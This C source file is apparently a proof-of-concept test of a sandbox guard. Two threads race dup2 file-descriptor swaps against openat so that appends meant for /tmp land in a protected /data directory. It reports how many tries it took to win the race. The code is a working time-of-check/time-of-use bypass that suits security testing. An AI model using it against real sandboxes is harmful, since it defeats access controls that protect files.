/* dirfd_swap ROUNDS: two threads; one opens "f1" for appending relative to fd 50 (/tmp,
 * outside the directory a grate guards) and writes X, ROUNDS times; the other keeps
 * making fd 50 /data (the guarded one) and back with dup2. A grate that checked the
 * dirfd's path, then let the call go down with the dirfd, could see /tmp/f1 while the
 * microvisor opened /data/f1 (won within 60,000 rounds with a 1 us switch interval).
 * Prints "tries N won W" (W: /data/f1 changed). */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
static int fd_data, fd_tmp;
static volatile int stop;
static void *swap(void *a) { while (!stop) { dup2(fd_data, 50); dup2(fd_tmp, 50); } return a; }
int main(int argc, char **argv) {
  long rounds = atol(argv[1]);
  fd_data = open("/data", O_RDONLY | O_DIRECTORY); fd_tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
  close(open("/tmp/f1", O_CREAT | O_WRONLY, 0644));
  dup2(fd_tmp, 50);
  struct stat before; stat("/data/f1", &before);
  pthread_t t; pthread_create(&t, 0, swap, 0);
  long i = 0; int won = 0;
  for (; i < rounds && !won; i++) {
    int w = openat(50, "f1", O_WRONLY | O_APPEND);
    if (w >= 0) { write(w, "X", 1); close(w); }
    if (i % 64 == 0) { struct stat now; stat("/data/f1", &now); won = now.st_size != before.st_size; }
  }
  stop = 1; pthread_join(t, 0);
  printf("tries %ld won %d\n", i, won);
  return 0;
}
